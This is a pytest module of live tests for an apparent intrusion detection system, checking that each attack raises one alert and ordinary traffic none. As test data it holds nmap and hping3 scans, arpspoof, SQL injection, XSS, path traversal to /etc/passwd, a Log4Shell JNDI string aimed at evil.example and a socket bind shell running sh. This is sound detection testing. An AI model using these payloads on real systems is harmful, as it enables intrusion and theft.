"""Rows of detections.md 10 by the tools that people use: one alert of each attack, none of ordinary work."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from tests.live.detection_bench import REPOSITORY, SECOND_TARGET, TARGET, Bench
from tests.live.servers import need

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
    pytest.mark.skipif(shutil.which("ip") is None, reason="needs iproute2"),
]

ELSEWHERE = "93.184.216.34"
"""An address of the second host that is not of the own network."""
BEHIND = "10.98.0.0/24"
"""A network of which the second host is the router, and in which nobody is."""
NMAP = ("nmap", "-n", "-Pn", "--max-retries", "1", "-T4")
SWEEP = ("nmap", "-n", "-T4", "--max-retries", "0", "--min-rate", "200")
"""As fast as sweeps are: left to itself nmap feels its way among hosts that do not answer, for 13 s."""
CURL = ("curl", "-sS", "--noproxy", "*", "-o", "/dev/null")
ATTACKS = {
    "nmap -sM": ("scan.stealth", (*NMAP, "-sM", "-p", "1-20", TARGET)),
    "nmap -D": ("scan.vertical", (*NMAP, "-sS", "-D", "10.97.0.201,10.97.0.202,ME", "-p", "1-60", TARGET)),
    "nmap -D RND": ("scan.vertical", (*NMAP, "-sS", "-D", "RND:5", "-p", "1-60", TARGET)),
    "nmap -sn, ICMP": ("sweep.icmp", (*SWEEP, "-sn", "-PE", "--disable-arp-ping", "10.98.0.0/26")),
    "masscan": ("scan.horizontal", (*SWEEP, "-Pn", "-sS", "-p", "445", BEHIND)),
    "hping3 -FPU": ("scan.stealth", ("hping3", "-q", "-F", "-P", "-U", "-p", "++1", "-i", "u1000", "-c", "20", TARGET)),
    "hping3 --udp": ("scan.udp", ("hping3", "-q", "--udp", "-p", "++1", "-i", "u10000", "-c", "40", TARGET)),
}
PAGE = f"http://{TARGET}:8080/"
REQUESTS = {
    "sqlmap": ("http.scanner", (*CURL, "-A", "sqlmap/1.8#stable (https://sqlmap.org)", f"{PAGE}?id=1%27+or+1=[1-9]")),
    "injection": ("http.sqli", (*CURL, f"{PAGE}?id=1%27%20union%20select%20user,password%20from%20users--[1-3]")),
    "script": ("http.xss", (*CURL, f"{PAGE}?q=%3Cscript%3Ealert([1-3])%3C/script%3E")),
    "traversal": ("http.traversal", (*CURL, "--path-as-is", f"{PAGE}../../../../etc/passwd?[1-3]")),
    "jndi": ("http.rce", (*CURL, "-g", f"{PAGE}?q=${{jndi:ldap://evil.example/a}}")),
    "Basic": ("cred.clear", (*CURL, "-u", "bob:secret", f"http://{ELSEWHERE}:8080/")),
}


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    """One pair of namespaces and one capture for all tests of this module."""
    made = Bench(tmp_path_factory.mktemp("tools"))
    made.do("ip", "-n", made.two, "addr", "add", f"{ELSEWHERE}/32", "dev", "lo")
    try:
        yield made
    finally:
        made.close()


def become(bench: Bench) -> str:
    """Give the first host another address, and return that."""
    address = bench.become()
    for target in (BEHIND, ELSEWHERE):
        bench.do("ip", "-n", bench.one, "route", "replace", target, "via", TARGET)
    return address


def expect(bench: Bench, rule: str, *words: str) -> None:
    """Run a tool, whatever its status, and wait for the one alert that it gives."""
    need(words[0])
    address = become(bench)
    bench.try_to(*words)
    bench.wait_for_alert(address, rule)
    assert bench.rules_of(address) == [rule]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_scan_is_one_alert(bench: Bench, name: str) -> None:
    rule, words = ATTACKS[name]
    expect(bench, rule, *words)


@pytest.mark.parametrize("name", REQUESTS)
def test_an_attack_in_a_request_is_one_alert(bench: Bench, name: str) -> None:
    rule, words = REQUESTS[name]
    server = [sys.executable, "-m", "http.server", "8080", "--directory", str(REPOSITORY / "themes")]
    with bench.serving(*server, kind="-Hltn", port=8080):
        expect(bench, rule, *words)


def test_a_password_of_ftp_is_one_alert(bench: Bench) -> None:
    server = [sys.executable, str(REPOSITORY / "tests/live/ftp_server.py"), ELSEWHERE, "right"]
    with bench.serving(*server, kind="-Hltn", port=21):
        expect(bench, "cred.clear", *CURL, "-m", "5", f"ftp://bob:right@{ELSEWHERE}/")


def test_an_expired_certificate_is_one_alert(bench: Bench, tmp_path: Path) -> None:
    key, certificate = expired(tmp_path)
    words = ["openssl", "s_server", "-accept", f"{ELSEWHERE}:8443", "-tls1_2", "-www", "-quiet"]
    with bench.serving(*words, "-key", str(key), "-cert", str(certificate), kind="-Hltn", port=8443):
        become(bench)
        bench.try_to(*CURL, "-k", f"https://{ELSEWHERE}:8443/")
        bench.wait_for_alert(ELSEWHERE, "tls.expired")
    # A certificate that is its own authority is told of besides
    assert bench.rules_against(ELSEWHERE).count("tls.expired") == 1


def test_a_shell_over_tcp_is_one_alert(bench: Bench) -> None:
    """What `id` answers to root; the port alone is information."""
    shell = (
        "import socket, subprocess; s = socket.create_server(('', 4444)).accept()[0]\n"
        "subprocess.run(['sh'], stdin=s, stdout=s)"
    )
    client = (
        f"import socket; s = socket.create_connection(('{SECOND_TARGET}', 4444)); s.sendall(b'id\\nexit\\n')\n"
        "while s.recv(99): pass"
    )
    with bench.serving(sys.executable, "-c", shell, kind="-Hltn", port=4444):
        expect(bench, "sig.payload", sys.executable, "-c", client)


def test_arpspoof_of_both_ends_is_one_alert(bench: Bench) -> None:
    need("arpspoof")
    victim = bench.become()
    bench.attack("ping", "-c1", TARGET)
    attacker = bench.become()
    bench.attack("ping", "-c1", TARGET)
    with bench.attacking("arpspoof", "-i", "v0", "-r", "-t", TARGET, victim):
        bench.wait_for_alert(victim, "arp.spoof")
    assert bench.rules_of(victim) == ["arp.spoof"]
    assert bench.rules_of(attacker) == []


def test_ordinary_work_is_none(bench: Bench, tmp_path: Path) -> None:
    """A site that is downloaded whole, many small requests, sessions of SSH as a program makes them, pings."""
    need("wget", "curl", "ping")
    calm = bench.become()
    folder = tmp_path / "site"
    folder.mkdir()
    for number in range(60):
        (folder / f"{number}.html").write_text(f"<p>page {number}: ' union select /etc/passwd &lt;script&gt;</p>")
    server = [sys.executable, "-m", "http.server", "8080", "--bind", TARGET, "--directory", str(folder)]
    with bench.serving(*server, kind="-Hltn", port=8080):
        bench.attack("wget", "-q", "-r", "--no-proxy", "-P", str(tmp_path / "copy"), PAGE)
        bench.attack(*CURL, f"{PAGE}[0-59].html")
        bench.attack(*CURL, f"{PAGE}?q=select+a+car+from+list&[1-9]")
        bench.attack(*CURL, f"{PAGE}?tag=hello&SELECT0=true&[1-9]")
        bench.attack("ping", "-c", "5", "-i", "0.2", "-s", "1400", TARGET)
        expect(bench, "scan.vertical", *NMAP, "-sS", "-p", "1-60", TARGET)
    assert bench.rules_of(calm) == []


def expired(folder: Path) -> tuple[Path, Path]:
    """Make a key and a certificate that was good in 2020."""
    need("openssl")
    key, wanted, certificate = folder / "key.pem", folder / "wanted.pem", folder / "certificate.pem"
    (folder / "index").touch()
    (folder / "serial").write_text("01\n")
    (folder / "ca").write_text(
        f"[ca]\ndefault_ca = own\n[own]\ndatabase = {folder}/index\nnew_certs_dir = {folder}\n"
        f"serial = {folder}/serial\n"
        "policy = any\ndefault_md = sha256\n[any]\ncommonName = supplied\n"
    )
    request = ["-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(wanted), "-subj", "/CN=old.example"]
    dates = ["-startdate", "20200101000000Z", "-enddate", "20210101000000Z"]
    own = ["-batch", "-notext", "-selfsign", "-config", str(folder / "ca"), "-keyfile", str(key)]
    for words in (["req", "-new", *request], ["ca", *own, *dates, "-in", str(wanted), "-out", str(certificate)]):
        subprocess.run(["openssl", *words], check=True, capture_output=True, timeout=60)
    return key, certificate
